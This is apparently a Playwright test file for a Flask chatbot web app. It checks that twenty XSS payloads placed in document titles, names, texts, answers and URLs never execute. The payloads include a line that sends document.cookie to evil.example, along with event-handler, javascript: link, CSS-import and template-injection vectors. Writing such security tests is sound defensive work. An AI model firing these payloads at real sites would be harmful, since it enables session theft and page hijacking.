"""A hundred scripts, twenty in each of five places: texts, titles, names, answers,
addresses. None runs, none asks anything of another origin, and the page's policy has
nothing to refuse, since none becomes an element.
"""

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from flask import Flask
from playwright.sync_api import Browser, Page, expect

from chatbot.app.factory import close_app, create_app
from tests.app.web.knowledge import added
from tests.app.web.live import served
from tests.browser.conftest import watched
from tests.conftest import small_settings
from tests.fakes.openai_server import CHAT, FakeOpenAI, Reply

RUN = "window.pwned=1;fetch('http://evil.example/'+document.cookie)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<body onload="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<math><mtext><style><img src=x onerror="{RUN}"></style></mtext></math>',
    f'<a href="javascript:{RUN}">Kenya</a>',
    f"[Kenya](javascript:{RUN})",
    f"[Kenya](data:text/html,<script>{RUN}</script>)",
    "![chart](http://evil.example/pixel.png)",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<object data=http://evil.example/x.swf></object><embed src=http://evil.example/x>",
    (
        "<base href=http://evil.example/><form "
        "action=http://evil.example/><button>Go</button></form>"
    ),
    f"\"><img src=x onerror={RUN}>' onmouseover='{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
)
REFUSED = ("400 ", "404 ", "Failed to load resource")
NUMBERED = list(enumerate(PAYLOADS))


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    with FakeOpenAI() as server:
        server.always(
            CHAT, Reply(["\n\n".join(f"{payload} [1]" for payload in PAYLOADS)])
        )
        changed = {**server.as_settings, "embedding_provider": "hashing"}
        made = create_app(small_settings(tmp_path_factory.mktemp("data"), **changed))
        client = made.test_client()
        for number, payload in NUMBERED:
            text = (
                f"# {payload}\n\n## Growth {payload}\n\nKenya grows by {number}%. "
                f"{payload}\n"
            )
            name = payload.replace("/", " ").replace('"', "'")
            about = {
                "title": f"{number} {payload}",
                "description": payload,
                "country_name": "Kenya",
            }
            added(client, (f"{number} {name}.md", text), **about)
        yield made
        close_app(made)


@pytest.fixture
def page(launched: Browser, app: Flask) -> Iterator[Page]:
    """What went wrong in it, a refused script among it, fails the test."""
    with served(app) as port, watched(launched) as (opened, problems):
        opened.on("dialog", lambda dialog: problems.append(f"dialog: {dialog.message}"))
        opened.goto(f"http://127.0.0.1:{port}")
        yield opened
        assert opened.evaluate("window.pwned") is None
        opened.goto("about:blank")
        assert [
            problem for problem in problems if not problem.startswith(REFUSED)
        ] == []


def test_titles_names_and_texts_in_the_library(page: Page) -> None:
    page.goto(f"{page.url}documents")
    rows = page.locator("#rows tr")
    expect(rows).to_have_count(len(PAYLOADS))
    for number, payload in NUMBERED:
        page.get_by_role("button", name=f"{number} {payload}", exact=True).click()
        expect(page.locator("#passages li")).not_to_have_count(0)
        expect(page.locator("#document-title")).to_have_text(f"{number} {payload}")
        expect(
            page.locator("#document-dialog").locator(
                "script, img, iframe, object, style, form"
            )
        ).to_have_count(0)
        page.keyboard.press("Escape")


def test_answers_questions_and_their_passages(page: Page) -> None:
    page.locator("#question").fill(PAYLOADS[1])
    page.keyboard.press("Enter")
    body = page.locator(".answer-body")
    expect(page.locator(".answer-footer")).to_be_visible()
    for begins in ("<script>", "<img src=x onerror=", "<object data=", "{{constructor"):
        expect(body).to_contain_text(begins)
    expect(
        body.locator(
            "script, img, iframe, object, embed, style, form, input, link, base, "
            "svg, math"
        )
    ).to_have_count(0)
    assert set(
        body.evaluate(
            "node => [...node.querySelectorAll('a')].map((link) => link.protocol)"
        )
    ) == {"http:"}
    body.locator(".citation").first.click()
    expect(page.locator("#evidence-original")).to_be_visible()
    page.locator("#evidence-original").click()
    expect(page.locator("#original-body mark")).to_be_visible()


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "place",
    ["/?country_name={}", "/?mode={}&year={}", "/c/{}", "/documents?q={}", "/{}"],
)
def test_no_address_runs_a_script(page: Page, place: str) -> None:
    home = page.url.rstrip("/")
    for payload in PAYLOADS[:: 1 if "country" in place else 5]:
        page.goto(home + place.replace("{}", quote(payload, safe="")))
        page.wait_for_load_state("load")
        assert page.evaluate("window.pwned") is None
